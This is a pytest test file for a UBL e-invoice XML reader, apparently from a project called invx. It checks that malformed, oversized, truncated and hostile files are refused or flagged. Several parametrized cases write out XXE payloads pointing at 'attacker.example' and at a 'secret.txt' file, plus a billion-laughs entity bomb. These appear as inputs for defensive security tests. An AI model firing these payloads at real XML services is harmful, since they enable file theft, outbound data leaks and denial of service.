"""Files that are broken, strange or meant to harm: refused clearly, and nothing lost in silence."""

import contextlib
import re
import time
from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from invx.contexts.invoicing.adapters.einvoice import xml
from invx.contexts.invoicing.adapters.einvoice.errors import EInvoiceUnreadable
from invx.contexts.invoicing.adapters.einvoice.ubl_names import INVOICE_NAMESPACE, NAMES
from invx.contexts.invoicing.adapters.einvoice.ubl_read import read, unread
from invx.contexts.invoicing.adapters.einvoice.ubl_write import write
from tests.unit.invoicing.einvoice.ubl.fullest import CREDIT_NOTE, FULLEST
from tests.unit.invoicing.einvoice.ubl.leaves import leaves

INVOICE = write(FULLEST)
SAMPLES = {"invoice": INVOICE, "credit note": write(CREDIT_NOTE)}
ROOT = f'<Invoice xmlns="{INVOICE_NAMESPACE}">'
STRANGE = f"{{{NAMES['cbc']}}}Strange"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
NUMBERS = ("Amount", "Quantity", "Percent", "MultiplierFactorNumeric")


def edited(sample: bytes) -> Iterator[tuple[Any, list[Any]]]:
    """For each element but the outermost, a fresh tree and its elements, that one first."""
    count = len(list(etree.fromstring(sample).iter()))
    for place in range(1, count):
        root = etree.fromstring(sample)
        yield root, list(root.iter())[place:]


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE Invoice SYSTEM "http://attacker.example/e.dtd">',
        '<!DOCTYPE Invoice [<!ENTITY x SYSTEM "secret.txt">]>',
        '<!DOCTYPE Invoice [<!ENTITY % x SYSTEM "http://attacker.example/e.dtd"> %x;]>',
        f'<!DOCTYPE Invoice [<!ENTITY l0 "ha">{LAUGHS}]>',
        "<!DOCTYPE Invoice>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_is_refused_at_once(declared: str, encoding: str) -> None:
    text = f"{declared}{ROOT}&x;&l11;</Invoice>"
    started = time.process_time()
    with pytest.raises(EInvoiceUnreadable):
        read(text.encode(encoding))
    assert time.process_time() - started < 10


def test_an_entity_that_nobody_declared_is_no_text() -> None:
    with pytest.raises(EInvoiceUnreadable, match="not well-formed"):
        read(INVOICE.replace(b"R-2024-77", b"&file;"))


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b" \n",
        b"{}",
        b"%PDF-1.7\n\x00\xff",
        b"PK\x03\x04\x00\x00",
        bytes(range(256)),
        b"<html><body/></html>",
        b"<Invoice/>",
        ROOT.replace("Invoice-2", "Order-2").encode() + b"</Invoice>",
        b'<?xml version="1.0" encoding="no-such"?><Invoice/>',
        b"<a>" * 100_000,
    ],
)
def test_what_is_no_ubl_invoice_is_refused(content: bytes) -> None:
    for reader in (read, unread):
        with pytest.raises(EInvoiceUnreadable):
            reader(content)


def test_a_file_beyond_the_limits_is_refused_before_it_is_read() -> None:
    large = ROOT.encode() + b" " * xml.FILE_BYTES_MAX + b"</Invoice>"
    many = ROOT.encode() + b"<a/>" * (xml.TAGS_MAX + 1) + b"</Invoice>"
    deep = "<a>" * (xml.DEPTH_MAX + 1) + "</a>" * (xml.DEPTH_MAX + 1)
    for content, reason in (
        (large, "larger"),
        (many, "tags"),
        (ROOT.encode() + deep.encode() + b"</Invoice>", "deeper"),
    ):
        with pytest.raises(EInvoiceUnreadable, match=reason):
            read(content)


@pytest.mark.parametrize("place", range(0, len(INVOICE) - 12, 311))
def test_a_file_cut_short_is_refused(place: int) -> None:
    with pytest.raises(EInvoiceUnreadable):
        read(INVOICE[:place])


@settings(deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(INVOICE) - 1), st.binary(max_size=3)), min_size=1))
def test_bytes_at_random_are_read_or_refused_and_nothing_else(
    changes: list[tuple[int, bytes]],
) -> None:
    content = bytearray(INVOICE)
    for place, inserted in changes:
        content[place : place + 1] = inserted
    with contextlib.suppress(EInvoiceUnreadable):
        assert read(bytes(content)) == read(bytes(content))


@pytest.mark.parametrize("name", SAMPLES)
def test_without_any_one_element_the_rest_is_carried_named_or_refused(name: str) -> None:
    carried = 0
    reasons: list[str] = []
    for root, (element, *_) in edited(SAMPLES[name]):
        element.getparent().remove(element)
        content = etree.tostring(root)
        try:
            written = write(read(content))
        except EInvoiceUnreadable as refused:
            reasons.append(refused.detail)
            continue
        carried += 1
        said = Counter(value for _, value in leaves(content, without=unread(content)).elements())
        kept = Counter(value for _, value in leaves(written).elements())
        assert said - kept == Counter(), etree.tostring(element)
    assert carried > 200
    assert [reason for reason in reasons if not re.search(r"\(B[GT]-[0-9]+", reason)] == []


@pytest.mark.parametrize("name", SAMPLES)
def test_a_number_or_a_date_that_is_none_is_named_with_its_place(name: str) -> None:
    refusals = 0
    for root, (element, *_) in edited(SAMPLES[name]):
        if not element.tag.endswith((*NUMBERS, "Date")):
            continue
        element.text = "1e5"
        with pytest.raises(EInvoiceUnreadable, match="'1e5' is not a ") as refused:
            read(etree.tostring(root, xml_declaration=True, encoding="UTF-8"))
        assert refused.value.path is not None
        assert refused.value.path.split("/")[-1] in f"cbc:{etree.QName(element).localname}"
        assert refused.value.line == element.sourceline
        refusals += 1
    assert refusals > 40


@pytest.mark.parametrize("bad", ["NaN", "Infinity", "1_000", "1,5", "٣", "--1", "9" * 41, "0x1"])
def test_a_number_is_plain_decimal_digits(bad: str) -> None:
    with pytest.raises(EInvoiceUnreadable, match="is not a number"):
        read(INVOICE.replace(b">2.4<", f">{bad}<".encode()))


def test_an_amount_in_another_currency_is_refused() -> None:
    other = INVOICE.replace(b'currencyID="EUR">32.00', b'currencyID="USD">32.00')
    with pytest.raises(EInvoiceUnreadable, match="it is in USD, and the invoice in EUR"):
        read(other)


@pytest.mark.parametrize(
    ("name", "old", "new"), [("invoice", b">380<", b">381<"), ("credit note", b">381<", b">380<")]
)
def test_a_type_code_of_the_other_kind_is_refused(name: str, old: bytes, new: bytes) -> None:
    with pytest.raises(EInvoiceUnreadable, match=r"BR-CL-01"):
        read(SAMPLES[name].replace(old, new))


@pytest.mark.parametrize("name", SAMPLES)
def test_a_strange_element_anywhere_is_named(name: str) -> None:
    for root, (element, *_) in edited(SAMPLES[name]):
        if element.text and element.text.strip():
            continue
        etree.SubElement(element, STRANGE).text = "x"
        (path,) = unread(etree.tostring(root))
        assert path.endswith("/cbc:Strange")
        assert read(etree.tostring(root)) == read(SAMPLES[name])


@pytest.mark.parametrize("name", SAMPLES)
def test_a_strange_attribute_anywhere_is_named(name: str) -> None:
    for root, (element, *_) in edited(SAMPLES[name]):
        element.set("strange", "x")
        (path,) = unread(etree.tostring(root))
        assert path.endswith("/@strange")


def test_unread_text_between_elements_and_foreign_words_are_named() -> None:
    content = INVOICE.replace(b"<cac:Delivery>", b"<cac:Delivery>loose", 1).replace(
        b"<cac:LegalMonetaryTotal>", b'<x:odd xmlns:x="urn:x">1</x:odd>tail<cac:LegalMonetaryTotal>'
    )
    assert unread(content) == ["/Invoice/cac:Delivery", "/Invoice/odd", "/Invoice/text()"]


def test_a_file_full_of_strange_elements_is_named_quickly_and_not_without_end() -> None:
    content = INVOICE.replace(b"</Invoice>", b"<a>x</a>" * 200_000 + b"</Invoice>")
    started = time.process_time()
    assert len(unread(content)) == xml.UNREAD_MAX
    assert time.process_time() - started < 60
